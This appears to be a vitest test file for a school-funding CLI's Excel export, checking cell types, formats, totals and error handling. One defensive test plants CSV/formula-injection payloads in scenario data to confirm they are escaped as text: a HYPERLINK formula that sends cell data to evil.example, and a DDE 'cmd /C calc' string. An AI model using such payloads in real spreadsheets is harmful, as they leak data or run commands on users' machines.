/**
 * `lcff run --xlsx`: the workbook of each bundled example, read back with
 * exceljs — typed number cells with their formats, frozen headers, filters,
 * totals equal to the JSON result's, labels from the rules — and hostile text
 * that stays text.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { safeText, setCell, NUMBER_FORMATS } from '../../src/report/xlsx/cells.js';
import { SHEETS } from '../../src/report/xlsx/workbook.js';
import type { RunResult } from '../../src/run/result.js';
import { UserError } from '../../src/cli/errors.js';
import { writeOutput } from '../../src/cli/write-output.js';
import { dec, spreadsheetNumber, sum } from '../../src/runtime/money.js';
import { lcff } from '../helpers/cli.js';
import { ROOT } from '../helpers/library.js';

const EXAMPLES = ['2016-17-optional-transfer', '2019-20-county-charter', '2023-24-csv-students'];

const runs = new Map<string, Promise<{ json: RunResult; wb: ExcelJS.Workbook; file: string }>>();

/** `lcff run <scenario> --json --xlsx <tmp file>` (once per scenario): the JSON on stdout, the workbook read back. */
function runBoth(scenario: string): Promise<{ json: RunResult; wb: ExcelJS.Workbook; file: string }> {
  if (!runs.has(scenario)) runs.set(scenario, runOnce(scenario));
  return runs.get(scenario)!;
}

async function runOnce(scenario: string): Promise<{ json: RunResult; wb: ExcelJS.Workbook; file: string }> {
  const file = join(mkdtempSync(join(tmpdir(), 'lcff-xlsx-')), 'out.xlsx');
  const r = lcff(['run', scenario, '--json', '--xlsx', file]);
  expect(r.stderr).toBe(`wrote ${file}\n`);
  expect(r.code).toBe(0);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(readFileSync(file));
  return { json: JSON.parse(r.stdout) as RunResult, wb, file };
}

/** The table of a sheet: header names → column numbers, the data rows, and the row whose first cell starts with "Total". */
function table(ws: ExcelJS.Worksheet) {
  const header = new Map<string, number>();
  ws.getRow(1).eachCell((c, n) => header.set(String(c.value), n));
  const rows: ExcelJS.Row[] = [];
  let totals: ExcelJS.Row | undefined;
  for (let n = 2; n <= ws.rowCount; n += 1) {
    const row = ws.getRow(n);
    const first = row.getCell(1).value;
    if (first === null || first === undefined) break;
    if (String(first).startsWith('Total')) {
      totals = row;
      break;
    }
    rows.push(row);
  }
  const cell = (row: ExcelJS.Row, name: string): ExcelJS.Cell => {
    const n = header.get(name);
    if (n === undefined) throw new Error(`no column "${name}" in ${ws.name}`);
    return row.getCell(n);
  };
  return { header, rows, totals, cell };
}

/** A number cell with the format, holding exactly the decimal text of the result. */
function expectFigure(cell: ExcelJS.Cell, text: string | number, numFmt: string): void {
  expect(cell.type).toBe(ExcelJS.ValueType.Number);
  expect(cell.numFmt).toBe(numFmt);
  expect(dec(String(cell.value)).equals(dec(text))).toBe(true);
}

describe('lcff run --xlsx on the bundled examples', () => {
  for (const example of EXAMPLES) {
    it(`${example}: every sheet, typed figures equal to the JSON result, totals equal to its sums`, async () => {
      const { json, wb } = await runBoth(`examples/${example}`);
      expect(wb.worksheets.map((w) => w.name)).toEqual([...SHEETS]);

      const summary = wb.getWorksheet('Summary')!;
      const s = table(summary);
      expect(s.rows.map((r) => s.cell(r, 'CDS code').value)).toEqual(json.leas.map((l) => l.cds));
      json.leas.forEach((l, i) => {
        const row = s.rows[i];
        expectFigure(s.cell(row, 'ADA before'), l.ada.before, '#,##0.00');
        expectFigure(s.cell(row, 'ADA after'), l.ada.after, '#,##0.00');
        expectFigure(s.cell(row, 'enrollment after'), l.enrollment.after, '#,##0');
        expectFigure(s.cell(row, 'unduplicated after'), l.unduplicated.after, '#,##0');
        expectFigure(s.cell(row, 'UPP after'), l.upp.after, '0.00%');
        expectFigure(s.cell(row, 'rolling UPP after'), l.upp.rolling_after, '0.00%');
        const paid = sum(json.transfers.filter((t) => t.from === l.cds).map((t) => dec(t.amount)));
        expectFigure(s.cell(row, 'transfers paid'), paid.toString(), '#,##0.00');
      });
      // totals row: exact sums that balance with the run's conservation check
      expect(s.totals).toBeDefined();
      const c = json.conservation;
      expectFigure(s.cell(s.totals!, 'ADA before'), c.ada_in, '#,##0.00');
      expectFigure(s.cell(s.totals!, 'ADA after'), c.ada_out, '#,##0.00');
      expectFigure(s.cell(s.totals!, 'enrollment after'), c.enrollment_out, '#,##0');
      expectFigure(s.cell(s.totals!, 'unduplicated after'), c.upc_out, '#,##0');
      const transferTotal = sum(json.transfers.map((t) => dec(t.amount))).toString();
      expectFigure(s.cell(s.totals!, 'transfers paid'), transferTotal, '#,##0.00');
      expectFigure(s.cell(s.totals!, 'transfers received'), transferTotal, '#,##0.00');
      // the header stays in view and the table filters, without its totals row
      expect(summary.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(summary.autoFilter).toBe(`A1:${summary.getRow(1).getCell(s.header.size).address.replace(/\d+$/, '')}${s.rows.length + 1}`);
      for (let n = 1; n <= s.header.size; n += 1) expect(summary.getColumn(n).width).toBeGreaterThanOrEqual(6);

      const st = table(wb.getWorksheet('Students')!);
      expect(st.rows.map((r) => st.cell(r, 'id').value)).toEqual(json.students.map((x) => x.id));
      json.students.forEach((x, i) => {
        const row = st.rows[i];
        expectFigure(st.cell(row, 'ADA'), x.ada, '#,##0.00');
        expect(st.cell(row, 'category').value).toBe(x.category);
        expect(st.cell(row, 'credited LEA').value).toBe(x.credited_to);
        expect(st.cell(row, 'census day').type).toBe(ExcelJS.ValueType.Boolean);
        expect(st.cell(row, 'grade').numFmt).toBe(NUMBER_FORMATS.grade);
        expect(st.cell(row, 'grade').type).toBe(ExcelJS.ValueType.Number);
      });
      expectFigure(st.cell(st.totals!, 'ADA'), sum(json.students.map((x) => dec(x.ada))).toString(), '#,##0.00');

      const tr = table(wb.getWorksheet('Transfers')!);
      expect(tr.rows).toHaveLength(json.transfers.length);
      json.transfers.forEach((t, i) => {
        expectFigure(tr.cell(tr.rows[i], 'amount'), t.amount, '#,##0.00');
        expectFigure(tr.cell(tr.rows[i], 'rate per ADA'), t.rate_per_ada, '#,##0.00');
      });
      if (json.transfers.length > 0) expectFigure(tr.cell(tr.totals!, 'amount'), transferTotal, '#,##0.00');

      // the COE entitlement: each component's amount typed (empty when not computed), the total the result's
      const en = table(wb.getWorksheet('COE entitlement')!);
      expect(en.rows.map((r) => en.cell(r, 'component').value)).toEqual(json.coe_entitlement.components.map((x) => x.name));
      json.coe_entitlement.components.forEach((x, i) => {
        if (x.computed) expectFigure(en.cell(en.rows[i], 'amount'), x.amount, '#,##0.00');
        else expect(en.cell(en.rows[i], 'amount').value).toBeNull();
        expect(en.cell(en.rows[i], 'citation').value ?? '').toBe(x.cite);
      });
      expectFigure(en.cell(en.totals!, 'amount'), json.coe_entitlement.total, '#,##0.00');

      const f = table(wb.getWorksheet('Findings')!);
      expect(f.rows.map((r) => f.cell(r, 'code').value)).toEqual(json.findings.map((x) => x.code));

      const u = table(wb.getWorksheet('Unconfirmed values')!);
      expect(u.rows.map((r) => u.cell(r, 'name').value)).toEqual(json.unconfirmed);

      // no cell anywhere is a formula
      for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
    });
  }

  it('2019-20: the figures computed by hand, with the labels the rules give', async () => {
    const { wb } = await runBoth('examples/2019-20-county-charter');
    const s = table(wb.getWorksheet('Summary')!);
    // transfers 3,283.56 + 6,030.37 (Fremont) + 6,452.06 + 8,767.94 (Hayward) + 0.00 (Oakland, concurred zero rate)
    expectFigure(s.cell(s.totals!, 'transfers received'), '24533.93', '#,##0.00');
    // ADA 6.83 + 1.88 before = 4.40 + 1.00 + 1.50 + 0.85 + 0.96 after
    expectFigure(s.cell(s.totals!, 'ADA after'), '8.71', '#,##0.00');
    const hayward = s.rows.find((r) => s.cell(r, 'CDS code').value === '0161192')!;
    expectFigure(s.cell(hayward, 'rate per ADA g9_12 (Grades 9 through 12)'), '10959.92', '#,##0.00');
    const sacs = wb.getWorksheet('SACS entries')!;
    const totals = [1, 2, 3, 4, 5, 6, 7, 8].map((n) => sacs.getRow(n)).filter((r) => String(r.getCell(1).value).startsWith('Total'));
    expect(totals.map((r) => [r.getCell(1).value, r.getCell(6).value])).toEqual([['Total payer', 24533.93], ['Total payee', 24533.93]]);
    const st = table(wb.getWorksheet('Students')!);
    const s004 = st.rows.find((r) => st.cell(r, 'id').value === 'S004')!;
    expect(st.cell(s004, 'category (label)').value).toBe('County Funded Non-Juvenile Court (Alternative Education Grant)');
    expect(st.cell(s004, 'basis (label)').value).toBe('Expelled under EC 48915(a)');
    expect(st.cell(s004, 'reported transfer code').value).toBe('1');
    expect(st.cell(s004, 'expected transfer codes').value).toBe('5');
    expect(st.cell(s004, 'findings').value).toBe('LCFF-V011');
    expect(st.cell(s004, 'district of residence').value).toBe('0161176'); // leading zero kept: text
    const rates = table(wb.getWorksheet('Rates of the year')!);
    const cola = rates.rows.find((r) => rates.cell(r, 'parameter').value === 'cola_district')!;
    expectFigure(rates.cell(cola, 'value'), '0.0326', '0.00##%');
    const field = rates.rows.find((r) => rates.cell(r, 'parameter').value === 'calpads_transfer_code_field')!;
    expect(rates.cell(field, 'value').value).toBe('1.30'); // an identifier, not the number 1.3
    const aeg = wb.getWorksheet('Summary')!;
    let aegTotal: ExcelJS.Cell | undefined;
    aeg.eachRow((row) => {
      if (row.getCell(1).value === 'total') aegTotal = row.getCell(2);
    });
    expectFigure(aegTotal!, '73560.34', '#,##0.00');
    const about = wb.getWorksheet('About')!;
    const facts = new Map<string, unknown>();
    about.eachRow((row) => facts.set(String(row.getCell(1).value), row.getCell(2).value));
    expect(facts.get('lcff-rules version')).toBe(JSON.parse(readFileSync(`${ROOT}package.json`, 'utf8')).version);
    expect(facts.get('fiscal year')).toBe('2019-20');
    expect(facts.get('scenario file')).toBe('examples/2019-20-county-charter');
  });
});

describe('text cells are safe from formula injection', () => {
  it('a hostile student id and district name come back as text, never as formulas', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lcff-xlsx-hostile-'));
    const source = readFileSync(`${ROOT}examples/2019-20-county-charter/scenario.yaml`, 'utf8');
    const hostile = source
      .replace('{ id: S001,', `{ id: '=HYPERLINK("http://evil.example/?x="&A2,"click")',`)
      .replace('name: Hayward Unified', `name: "@SUM(1+1)*cmd|' /C calc'!A0"`);
    writeFileSync(join(dir, 'scenario.yaml'), hostile);
    const { wb, file } = await runBoth(join(dir, 'scenario.yaml'));
    // in the file itself: no formula element anywhere; text only as shared strings (t="s"), the canonical text cell
    const zip = await JSZip.loadAsync(readFileSync(file));
    const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
    expect(sheets).toHaveLength(SHEETS.length);
    for (const f of sheets) {
      const xml = await zip.file(f)!.async('string');
      expect(xml).not.toMatch(/<f[ >]/);
      expect(xml).not.toMatch(/t="(str|inlineStr)"/);
    }
    const strings = await zip.file('xl/sharedStrings.xml')!.async('string');
    expect(strings).toContain('<t>&apos;=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A2,&quot;click&quot;)</t>');
    const st = table(wb.getWorksheet('Students')!);
    const ids = st.rows.map((r) => st.cell(r, 'id'));
    const evil = ids.find((c) => String(c.value).includes('HYPERLINK'))!;
    expect(evil.type).toBe(ExcelJS.ValueType.String);
    expect(evil.value).toBe(`'=HYPERLINK("http://evil.example/?x="&A2,"click")`);
    const s = table(wb.getWorksheet('Summary')!);
    const hayward = s.rows.find((r) => s.cell(r, 'CDS code').value === '0161192')!;
    expect(s.cell(hayward, 'LEA').type).toBe(ExcelJS.ValueType.String);
    expect(s.cell(hayward, 'LEA').value).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('prefixes text that would start a formula, leaves signed numbers and plain text alone, and drops characters XML cannot carry', () => {
    expect(safeText('=1+1')).toBe("'=1+1");
    expect(safeText('+A1')).toBe("'+A1");
    expect(safeText('-A1')).toBe("'-A1");
    expect(safeText('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(safeText('\t=1')).toBe("'\t=1");
    expect(safeText('\r=1')).toBe("'\r=1");
    expect(safeText('-3.50')).toBe('-3.50');
    expect(safeText('+2')).toBe('+2');
    expect(safeText('Hayward Unified')).toBe('Hayward Unified');
    expect(safeText('a = b')).toBe('a = b');
    expect(safeText('bell\u0007 nul\u0000')).toBe('bell\ufffd nul\ufffd');
    expect(safeText('lone \ud800 surrogate')).toBe('lone \ufffd surrogate');
    expect(safeText('pair 😀')).toBe('pair 😀');
  });

  it('writes a figure as a number cell with its format, and a grade as a number shown TK/K', () => {
    const ws = new ExcelJS.Workbook().addWorksheet('t');
    setCell(ws.getCell('A1'), 'money', '27399.85');
    expect(ws.getCell('A1').value).toBe(27399.85);
    expect(ws.getCell('A1').numFmt).toBe('#,##0.00');
    setCell(ws.getCell('A2'), 'grade', -1);
    expect(ws.getCell('A2').value).toBe(-1);
    expect(ws.getCell('A2').numFmt).toBe('[=-1]"TK";[=0]"K";0');
    setCell(ws.getCell('A3'), 'percent', '0.7917');
    expect(ws.getCell('A3').numFmt).toBe('0.00%');
    setCell(ws.getCell('A4'), 'text', '=2+2');
    expect(ws.getCell('A4').type).toBe(ExcelJS.ValueType.String);
  });
});

describe('lcff run --xlsx errors', () => {
  it('a path in a missing folder is a usage error (exit 2) naming the option and why, not an internal error', () => {
    const r = lcff(['run', 'examples/2019-20-county-charter', '--xlsx', '/nonexistent-folder/out.xlsx']);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe('--xlsx: cannot write "/nonexistent-folder/out.xlsx": its folder does not exist\n');
    expect(r.stdout).toBe('');
  });

  it('a folder as the file is a usage error (exit 2)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'lcff-xlsx-dir-'));
    const r = lcff(['run', 'examples/2019-20-county-charter', '--xlsx', dir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(`--xlsx: cannot write "${dir}": it is a folder\n`);
  });

  it('an empty file name, or a path under a file, is refused before the run (exit 2)', () => {
    const empty = lcff(['run', 'examples/2019-20-county-charter', '--xlsx', '']);
    expect(empty.code).toBe(2);
    expect(empty.stderr).toBe('--xlsx: needs a file name\n');
    const under = lcff(['run', 'examples/2019-20-county-charter', '--xlsx', 'package.json/out.xlsx']);
    expect(under.code).toBe(2);
    expect(under.stderr).toBe('--xlsx: cannot write "package.json/out.xlsx": a part of the path is not a folder\n');
  });

  it('the output path is checked before the scenario is read', () => {
    // the path is checked before the scenario is even read
    const r = lcff(['run', 'examples/no-such-scenario', '--xlsx', '/nonexistent-folder/out.xlsx']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^--xlsx: cannot write/);
  });

  it('without --json, says what it wrote on stdout and prints no tables', () => {
    const file = join(mkdtempSync(join(tmpdir(), 'lcff-xlsx-')), 'a.xlsx');
    const r = lcff(['run', 'examples/2019-20-county-charter', '--xlsx', file]);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(`wrote ${file}\n`);
  });
});

describe('writing the file', () => {
  it('a refusal at write time (no space, permission) is a UserError, exit 2, with the reason; any other error is not hidden', async () => {
    const fail = (code: string) => async () => {
      throw Object.assign(new Error(`${code}: system message`), { code });
    };
    await expect(writeOutput('--xlsx', 'out.xlsx', fail('ENOSPC'))).rejects.toMatchObject({ message: '--xlsx: cannot write "out.xlsx": no space left on the device', exitCode: 2 });
    await expect(writeOutput('--xlsx', 'out.xlsx', fail('EACCES'))).rejects.toBeInstanceOf(UserError);
    await expect(writeOutput('--xlsx', 'out.xlsx', fail('EWEIRD'))).rejects.not.toBeInstanceOf(UserError);
  });

  it('figures of up to 15 significant digits read back from the cell exactly as written', () => {
    for (const text of ['0.01', '0.95', '27399.85', '9999999999999.99', '123456789012.345', '0.7917', '-3283.56']) {
      expect(dec(String(spreadsheetNumber(text))).equals(dec(text))).toBe(true);
    }
  });
});
